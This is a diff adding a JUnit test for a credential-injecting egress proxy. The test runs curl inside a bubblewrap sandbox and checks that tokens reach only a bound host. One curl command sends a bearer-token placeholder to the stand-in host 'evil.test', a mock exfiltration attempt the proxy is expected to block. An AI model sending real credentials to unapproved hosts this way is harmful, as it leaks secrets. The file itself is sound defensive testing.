@@ -578,6 +578,53 @@ class EgressProxyTest {
     assertThat(Files.exists(sock)).isFalse();
   }
 
+  /**
+   * The deployment path end to end: curl inside a bubblewrap sandbox with no network but loopback,
+   * reaching the proxy only through its Unix socket (bound into the sandbox) and socat, as the
+   * design describes. Skipped where bwrap or socat is missing.
+   */
+  @Test
+  void sandboxedCurl_throughUnixSocket_injectsForBoundHostAndBlocksOther() throws Exception {
+    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/bwrap")) && Files.isExecutable(Path.of("/usr/bin/socat")),
+        "needs bubblewrap and socat");
+    proxy.close();
+    Path sockDir = Files.createDirectories(tmp.resolve("run"));
+    proxy = startProxy(guard(), sockDir.resolve("proxy.sock"));
+    String good = sandboxCurl(sockDir, "https://api.test:" + api.port() + "/in-sandbox");
+    assertThat(good).endsWith("200");
+    assertThat(api.received).singleElement().satisfies(x -> assertThat(x.header("Authorization")).isEqualTo("Bearer " + TOKEN));
+    String bad = sandboxCurl(sockDir, "https://evil.test:" + evil.port() + "/in-sandbox");
+    assertThat(bad).endsWith("403").contains(EgressRecord.RULE_CREDENTIAL_UNBOUND);
+    assertThat(evil.received).isEmpty();
+    String direct = sandboxCurlNoProxy("http://127.0.0.1:" + plain.port() + "/");
+    assertThat(direct).doesNotContain("hello from plain");
+    assertThat(plain.received).isEmpty();
+  }
+
+  String sandboxCurl(Path sockDir, String url) throws Exception {
+    return bwrap(sockDir, "socat TCP-LISTEN:3128,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/warden/proxy.sock & "
+        + "for i in 1 2 3 4 5 6 7 8 9 10; do (echo > /dev/tcp/127.0.0.1/3128) 2>/dev/null && break; sleep 0.1; done; "
+        + "curl -sS --max-time 15 --proxy http://127.0.0.1:3128 --cacert /run/warden-ca/" + CertificateAuthority.CERT_FILE
+        + " -H 'Authorization: Bearer " + Vault.placeholder("github") + "' -w '\\n%{http_code}' " + url);
+  }
+
+  String sandboxCurlNoProxy(String url) throws Exception {
+    return bwrap(tmp, "curl -sS --max-time 5 " + url + "; echo rc=$?");
+  }
+
+  String bwrap(Path sockDir, String script) throws Exception {
+    List<String> cmd = List.of("bwrap", "--unshare-all", "--die-with-parent", "--new-session",
+        "--ro-bind", "/usr", "/usr", "--ro-bind", "/etc", "/etc", "--symlink", "usr/lib", "/lib",
+        "--symlink", "usr/lib64", "/lib64", "--symlink", "usr/bin", "/bin", "--proc", "/proc", "--dev", "/dev",
+        "--tmpfs", "/tmp", "--ro-bind", sockDir.toString(), "/run/warden",
+        "--ro-bind", wardenCa.certificatePath().getParent().toString(), "/run/warden-ca",
+        "bash", "-c", script);
+    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
+    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
+    p.waitFor(30, TimeUnit.SECONDS);
+    return out;
+  }
+
   @Test
   void unixSocket_pathIsARegularFile_refused() throws Exception {
     Path f = Files.writeString(tmp.resolve("not-a-socket"), "x");
